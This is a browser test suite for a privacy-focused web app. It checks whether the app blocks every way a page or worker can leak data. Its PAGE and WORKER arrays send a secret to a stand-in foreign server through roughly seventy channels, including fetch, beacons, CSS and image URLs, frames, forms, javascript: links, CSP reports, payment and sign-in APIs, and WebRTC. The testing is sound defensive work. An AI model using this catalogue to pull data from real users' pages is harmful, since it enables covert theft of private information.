// Every way out of the page and of its worker that we could name. Each is tried with a secret of its own, against
// this site's server and against a foreign one that answers everybody. "blocked": the secret arrives nowhere.
// "listed": it cannot be blocked from inside a page; docs/PRIVACY.md must then name it under the given heading.
// A listed way that is blocked after all fails too, so that the document stays true; "~" marks one that browsers treat
// differently from run to run, and that is listed either way.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { ROOT, launch, stage } from "./page.js";
import { serve } from "./server.mjs";

/**
 * Attempts run inside the page as `(to, help) => ...`, where `to` is an address that carries the secret.
 * Targets: "foreign", "own" (this site with a query), or both.
 * @type {[string, string[], Function, string?][]}
 */
const PAGE = [
  ["fetch", ["foreign", "own"], (to) => fetch(to)],
  ["fetch without CORS", ["foreign", "own"], (to) => fetch(to, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })],
  ["fetchLater", ["foreign"], (to) => globalThis.fetchLater?.(to, { activateAfter: 0 })],
  ["XMLHttpRequest", ["foreign", "own"], (to) => { const x = new XMLHttpRequest(); x.open("POST", to); x.send("x"); }],
  ["WebSocket", ["foreign", "own"], (to) => new WebSocket(to.replace("http", "ws"))],
  ["WebSocketStream", ["foreign"], (to) => globalThis.WebSocketStream && new WebSocketStream(to.replace("http", "ws"))],
  ["EventSource", ["foreign", "own"], (to) => new EventSource(to)],
  ["WebTransport", ["foreign"], (to) => new WebTransport(to.replace("http:", "https:")).ready],
  ["sendBeacon", ["foreign", "own"], (to) => navigator.sendBeacon(to, "x")],
  ["Cache.add", ["foreign", "own"], async (to) => (await caches.open("x")).add(to)],
  ["image", ["foreign", "own"], (to) => { new Image().src = to; }],
  ["image srcset", ["foreign"], (to, { html }) => html(`<picture><source srcset="${to}"><img srcset="${to} 2x" lowsrc="${to}" attributionsrc="${to}"></picture>`)],
  ["SVG image and use", ["foreign", "own"], (to, { html }) => html(`<svg><image href="${to}"/><use href="${to}#a"/><filter><feImage href="${to}"/></filter></svg>`)],
  ["image input, body background, video poster", ["foreign"], (to, { html }) => html(`<input type="image" src="${to}"><table background="${to}"><tr><td>x</table><video poster="${to}"></video>`)],
  ["audio, video, track", ["foreign", "own"], (to, { html }) => html(`<audio src="${to}" autoplay></audio><video src="${to}"><track src="${to}" default kind="captions"></video>`)],
  ["stylesheet", ["foreign", "own?"], (to, { link }) => link("stylesheet", to), "Addresses of this site"],
  ["style element with import", ["foreign", "own"], (to, { html }) => html(`<style>@import url("${to}");</style>`)],
  ["style attribute", ["foreign"], (to, { html }) => html(`<p style="background:url('${to}')">x</p>`)],
  ["style by script", ["foreign", "own"], (to, { add }) => { const p = add("p"); p.textContent = "x"; p.style.backgroundImage = `url("${to}")`; p.style.cursor = `url("${to}"), auto`; p.style.listStyleImage = `url("${to}")`; }],
  ["constructed stylesheet", ["foreign"], (to) => { const s = new CSSStyleSheet(); s.replaceSync(`body { background-image: url("${to}") }`); document.adoptedStyleSheets = [s]; }],
  ["font", ["foreign", "own?"], (to) => new FontFace("x", `url("${to}")`).load(), "Addresses of this site"],
  ["paint worklet", ["foreign"], (to) => CSS.paintWorklet?.addModule(to)],
  ["audio worklet", ["foreign"], (to) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(to)],
  ["script element", ["foreign", "own?"], (to, { add }) => { add("script").src = to; }, "Addresses of this site"],
  ["dynamic import", ["foreign", "own?"], (to) => import(to), "Addresses of this site"],
  ["inline script and eval", ["foreign"], (to, { add }) => { add("script").textContent = `import("${to}")`; (0, eval)(`import("${to}")`); }],
  ["javascript: link", ["foreign"], (to, { add }) => { const a = add("a"); a.href = `javascript:fetch("${to}")`; a.click(); }],
  ["prefetch", ["foreign", "own?"], (to, { link }) => link("prefetch", to), "Addresses of this site"],
  ["preload as fetch and image", ["foreign", "own"], (to, { link }) => { link("preload", to, "fetch"); link("preload", to, "image"); }],
  ["preload as script", ["foreign", "own?"], (to, { link }) => link("preload", to, "script"), "Addresses of this site"],
  ["modulepreload", ["foreign", "own?"], (to, { link }) => link("modulepreload", to), "Addresses of this site"],
  ["icon", ["foreign", "own"], (to, { link }) => link("icon", to)],
  ["manifest", ["foreign"], (to, { link }) => link("manifest", to)],
  ["prerender and speculation rules", ["foreign", "own"], (to, { link, add }) => { link("prerender", to); const s = add("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [to] }], prerender: [{ source: "list", urls: [to] }] }); }],
  ["frame", ["foreign", "own?"], (to, { add }) => { add("iframe").src = to; }, "Addresses of this site"],
  ["object and embed", ["foreign", "own"], (to, { html }) => html(`<object data="${to}"></object><embed src="${to}">`)],
  ["srcdoc frame", ["foreign"], (to, { add }) => { add("iframe").srcdoc = `<img src="${to}"><script src="${to}"></script><link rel="stylesheet" href="${to}">`; }],
  ["fetch of an empty frame", ["foreign", "own"], (to, { add }) => add("iframe").contentWindow.fetch(to)],
  ["blob frame", ["foreign"], (to, { add }) => { add("iframe").src = URL.createObjectURL(new Blob([`<img src="${to}">`], { type: "text/html" })); }],
  ["form", ["foreign", "own"], (to, { add }) => { const f = add("form"); f.method = "POST"; f.action = to; f.submit(); }],
  ["form into a new window", ["foreign"], (to, { add }) => { const f = add("form"); f.action = to; f.target = "_blank"; f.submit(); }],
  ["nested worker from an address", ["foreign", "own"], (to) => new Worker(to, { type: "module" })],
  ["shared worker from an address", ["foreign", "own"], (to) => new SharedWorker(to)],
  ["shared blob worker that fetches", ["foreign", "own"], (to) => new SharedWorker(URL.createObjectURL(new Blob([`fetch("${to}")`])))],
  ["service worker", ["foreign", "own"], (to) => navigator.serviceWorker.register(to)],
  ["window.open", ["foreign", "own"], (to) => window.open(to)],
  ["location", ["foreign", "own"], (to) => { location.href = to; }],
  ["location.replace", ["foreign"], (to) => location.replace(to)],
  ["meta refresh", ["foreign"], (to, { html }) => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = `0;url=${to}`; document.head.append(m); }],
  ["link clicked by script", ["foreign", "own"], (to, { add }) => { const a = add("a"); a.href = to; a.click(); }],
  ["download link", ["foreign", "own"], (to, { add }) => { const a = add("a"); a.href = to; a.download = "x"; a.click(); }],
  ["link to a new window, clicked by script", ["foreign?"], (to, { add }) => { const a = add("a"); a.href = to; a.target = "_blank"; a.click(); }, "New windows"],
  ["window.open of an empty frame", ["foreign?"], (to, { add }) => add("iframe").contentWindow.open(to), "New windows"],
  ["anchor ping", ["foreign", "own"], (to, { add }) => { const a = add("a"); a.href = "#x"; a.ping = to; a.click(); }],
  ["policy report", ["foreign", "own"], (to) => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = `img-src 'none'; report-uri ${to}`; document.head.append(m); new Image().src = "data:,"; }],
  ["payment method manifest", ["foreign"], (to) => new PaymentRequest([{ supportedMethods: to.replace("http:", "https:") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()],
  ["federated sign-in", ["foreign"], (to) => navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: "x" }] } })],
  ["address changed by script, then reload", ["own"], async (to) => { history.pushState(null, "", to); location.reload(); await new Promise(() => {}); }],
  ["cookie, then reload", ["cookie"], async (to) => { document.cookie = `a=${new URL(to).search.slice(1)}; path=/`; await globalThis.cookieStore?.set("a", "b"); location.reload(); await new Promise(() => {}); }],
  ["loader frame asked for a query", ["own", "foreign"], (to, { loader }) => loader("#site", to)],
  ["loader frame with a fetch of one's own", ["foreign", "own?"], async (to, { frame }) => (await frame("/loader.html#site")).fetch(to), "Frames of this site"],
  ["a document of this site without a policy", ["foreign?"], async (to, { frame }) => (await frame("/www/style.css")).fetch(to, { mode: "no-cors" }), "Frames of this site"],
  ["a peer connection from a fresh frame", ["peer?"], (to, { add }) => { if (!add("iframe").contentWindow.RTCPeerConnection) throw new Error("gone"); document.title = "peer"; }, "Frames of this site"],
  ["RTCPeerConnection", ["peer"], () => { if (!window.RTCPeerConnection && !window.webkitRTCPeerConnection) throw new Error("gone"); document.title = "peer"; }],
  ["speech", ["peer"], () => { if (!window.speechSynthesis && !window.SpeechRecognition && !window.webkitSpeechRecognition) throw new Error("gone"); document.title = "peer"; }],
  ["dns-prefetch and preconnect", ["connection~"], (to, { link }) => { link("dns-prefetch", to); link("preconnect", to); }, "Names that are looked up"],
];

const WORKER = [
  ["fetch", ["foreign", "own"], `fetch(to)`],
  ["fetch without CORS", ["foreign", "own"], `fetch(to, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })`],
  ["XMLHttpRequest", ["foreign", "own"], `{ const x = new XMLHttpRequest(); x.open("POST", to); x.send("x"); }`],
  ["WebSocket", ["foreign", "own"], `new WebSocket(to.replace("http", "ws"))`],
  ["EventSource", ["foreign", "own"], `new EventSource(to)`],
  ["WebTransport", ["foreign"], `await new WebTransport(to.replace("http:", "https:")).ready`],
  ["Cache.add", ["foreign", "own"], `await (await caches.open("x")).add(to)`],
  ["font", ["foreign"], `await new FontFace("x", "url(" + to + ")").load()`],
  ["import", ["foreign", "own?"], `await import(to)`, "Addresses of this site"],
  ["importScripts", ["foreign", "own"], `importScripts(to)`],
  ["nested worker from an address", ["foreign", "own"], `new Worker(to)`],
  ["nested blob worker that fetches", ["foreign", "own"], `new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '")'])))`],
  ["nested blob worker that imports", ["foreign"], `new Worker(URL.createObjectURL(new Blob(['importScripts("' + to + '")'])))`],
  ["peer connection", ["peer"], `if (!self.RTCPeerConnection) throw new Error("gone"); postMessage("peer")`],
];

/** What attempts may use. Runs in the page. */
function helpers() {
  const add = (tag, fill = () => {}) => {
    const node = document.createElement(tag);
    fill(node);
    document.body.append(node);
    return node;
  };
  return {
    add,
    html: (text) => add("div", (node) => (node.innerHTML = text)),
    link: (rel, href, as) => document.head.append(Object.assign(document.createElement("link"), { rel, href, ...(as ? { as } : {}) })),
    frame: async (src) => {
      const node = add("iframe", (frame) => (frame.src = src));
      await new Promise((resolve) => (node.onload = resolve));
      await new Promise((resolve) => setTimeout(resolve, 200));
      return node.contentWindow;
    },
    loader: async (hash, url) => {
      const node = add("iframe", (frame) => (frame.src = `/loader.html${hash}`));
      await new Promise((resolve) => (node.onload = resolve));
      const { port1, port2 } = new MessageChannel();
      const answer = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
      node.contentWindow.postMessage({ url }, location.origin, [port2]);
      const { error } = await answer;
      if (error) throw new Error(error);
    },
  };
}

/** Runs an attempt in a worker that is made as understudy.js makes its own. */
const runInWorker = (page, body, to) => page.evaluate(async ({ body, to }) => {
  const text = `(async () => { const to = ${JSON.stringify(to)}; ${body}\n; await new Promise((r) => setTimeout(r, 300)); })().then(() => postMessage("done"), (error) => postMessage(String(error)))`;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })), { type: "module" });
  return new Promise((resolve) => {
    worker.onmessage = ({ data }) => {
      if (data === "peer") document.title = "peer";
      else resolve(data);
    };
    worker.onerror = (event) => resolve(event.message);
  });
}, { body, to });

describe("ways out", () => {
  let site, foreign, document;
  before(async () => {
    site = await stage();
    foreign = await serve(null);
    const path = join(ROOT, "docs", "PRIVACY.md");
    document = existsSync(path) ? readFileSync(path, "utf8") : "";
  });
  after(async () => {
    await site?.close();
    await foreign?.close();
  });

  let secrets = 0;
  /** Tries one way in a page of its own and says where the secret arrived. @param {import("playwright-core").BrowserContext} [given] */
  async function attempt(target, act, given) {
    const secret = `secret${++secrets}x`;
    const to = `${target.startsWith("own") || target === "cookie" ? site.server.origin : foreign.origin}/x.js?${secret}`;
    const context = given ?? (await site.browser.newContext());
    const page = await context.newPage();
    await page.goto(`${site.server.origin}/#gpu=off`);
    if (given) assert.ok(await page.evaluate(() => navigator.serviceWorker.controller), "the service worker is not in control");
    const connections = foreign.connections;
    const began = performance.now();
    const why = await Promise.race([
      act(page, to).catch((error) => String(error.message ?? error).split("\n")[0]),
      new Promise((resolve) => setTimeout(resolve, 1200, "went on")),
    ]);
    await page.waitForTimeout(Math.max(150, 500 - (performance.now() - began)));
    const has = (/** @type {any} */ { url, cookie = "" }) => url.includes(secret) || cookie.includes(secret);
    const arrived = [...site.server.requests.filter(has).map(() => "own"), ...foreign.requests.filter(has).map(() => "foreign")];
    if (target.startsWith("connection") && foreign.connections > connections) arrived.push("connection");
    if (target.startsWith("peer") && (await page.title().catch(() => "")) === "peer") arrived.push("peer");
    await (given ? page : context).close();
    return { arrived: [...new Set(arrived)], why };
  }

  function judge(t, target, { arrived, why }, heading) {
    const listed = /[?~]$/.test(target);
    t.diagnostic(`${target.replace(/[?~]/, "")}: ${arrived.length ? `arrived (${arrived})` : "blocked"}${why ? `; ${why}` : ""}`);
    if (!listed) assert.deepEqual(arrived, [], "a secret got out");
    else {
      assert.ok(arrived.length > 0 || target.endsWith("~"), `listed in docs/PRIVACY.md under "${heading}", yet blocked: strike it there`);
      assert.ok(document.includes(`### ${heading}`), `docs/PRIVACY.md must have the heading "### ${heading}"`);
    }
  }

  for (const [name, targets, act, heading] of PAGE) {
    for (const target of targets) {
      test(`page: ${name}, ${target.replace(/[?~]/, " (listed)")}`, async (t) => {
        const result = await attempt(target, (page, to) => page.evaluate(`(${act})(${JSON.stringify(to)}, (${helpers})())`));
        judge(t, target, result, heading);
      });
    }
  }

  for (const [name, targets, body, heading] of WORKER) {
    for (const target of targets) {
      test(`worker: ${name}, ${target.replace(/[?~]/, " (listed)")}`, async (t) => {
        const result = await attempt(target, (page, to) => runInWorker(page, body, to));
        judge(t, target, result, heading);
      });
    }
  }

  // Once the service worker is in control, this site's own addresses carry nothing out either.
  describe("with the service worker in control", () => {
    /** @type {import("playwright-core").BrowserContext} */ let context;
    before(async () => {
      context = await site.browser.newContext();
      const page = await context.newPage();
      await page.goto(`${site.server.origin}/#gpu=off`);
      await page.waitForSelector("html[data-offline]");
      await page.close();
    });
    after(() => context?.close());

    const own = ([, targets]) => targets.some((target) => target.startsWith("own"));
    for (const [name, , act] of PAGE.filter(own)) {
      test(`page: ${name}, own`, async (t) => {
        judge(t, "own", await attempt("own", (page, to) => page.evaluate(`(${act})(${JSON.stringify(to)}, (${helpers})())`), context));
      });
    }
    for (const [name, , body] of WORKER.filter(own)) {
      test(`worker: ${name}, own`, async (t) => {
        judge(t, "own", await attempt("own", (page, to) => runInWorker(page, body, to), context));
      });
    }
    test("page: a document of this site without a policy of its own, foreign", async (t) => {
      const [, , act] = PAGE.find(([name]) => name === "a document of this site without a policy");
      judge(t, "foreign", await attempt("foreign", (page, to) => page.evaluate(`(${act})(${JSON.stringify(to)}, (${helpers})())`), context));
    });
    test("page: words in the path of an address, or told to the worker", async (t) => {
      const result = await attempt("own", (page, to) => page.evaluate(async (to) => {
        const path = to.replace("?", "/");
        for (const rel of ["stylesheet", "prefetch", "modulepreload"]) document.head.append(Object.assign(document.createElement("link"), { rel, href: path }));
        await import(path).catch(() => {});
        await import(to.replace("/x.js", "/%zz")).catch(() => {});
        for (const task of ["rest", "state", path, "constructor"]) navigator.serviceWorker.controller.postMessage({ task, url: path, path }, [new MessageChannel().port2]);
      }, to), context);
      judge(t, "own", result);
    });
    test("a way that was refused is counted", async () => {
      const page = await context.newPage();
      await page.goto(`${site.server.origin}/#gpu=off`);
      await page.waitForSelector("html[data-ready]");
      const blocked = Number(await page.locator("#blocked-count").textContent());
      await page.evaluate(() => import("/x.js?words").catch(() => {}));
      await page.waitForFunction((before) => Number(document.getElementById("blocked-count").textContent) > before, blocked);
      await page.waitForTimeout(300);
      assert.equal(await page.locator("#bytes-sent").textContent(), "0");
      await page.close();
    });
  });

  test("the foreign server is reachable, or all of this proves nothing", async () => {
    const browser = await launch();
    const page = await browser.newPage();
    const before = foreign.requests.length;
    await page.goto(`${foreign.origin}/plain`);
    assert.ok(foreign.requests.length > before);
    await page.evaluate(() => fetch("/fetched"));
    assert.ok(foreign.requests.some(({ url }) => url === "/fetched"));
    await browser.close();
  });

  test("the page itself asks its own site only, each address once and without a query", async () => {
    const server = site.server;
    const start = server.requests.length;
    const page = await site.open();
    const urls = server.requests.slice(start).map(({ url }) => url);
    assert.deepEqual(urls.filter((url) => url.includes("?")), []);
    // The loader's frame comes for the student, and may have come again to register the service worker.
    const again = urls.filter((url, at) => urls.indexOf(url) !== at);
    assert.ok(again.length === 0 || (again.length === 1 && again[0] === "/loader.html"), again.join());
    assert.ok(urls.every((url) => !/favicon/.test(url)));
    await page.waitForFunction(() => document.querySelector("iframe") === null, null, { timeout: 5000 });
    await page.context().close();
  });

  test("trying it in the claims panel finds every way blocked, and counts no byte", async () => {
    const page = await site.open();
    await page.evaluate(() => (window.document.getElementById("claims").open = true));
    const requests = site.server.requests.length;
    await page.click("#probe");
    await page.waitForFunction(() => document.querySelectorAll("#probe-results li").length === 6);
    assert.equal(await page.locator("#probe-results .bad").count(), 0);
    await page.waitForTimeout(300);
    assert.equal(await page.locator("#requests-count").textContent(), "0");
    assert.equal(await page.locator("#bytes-sent").textContent(), "0");
    assert.ok(Number(await page.locator("#blocked-count").textContent()) >= 5);
    assert.equal(site.server.requests.length, requests);
    await page.context().close();
  });
});
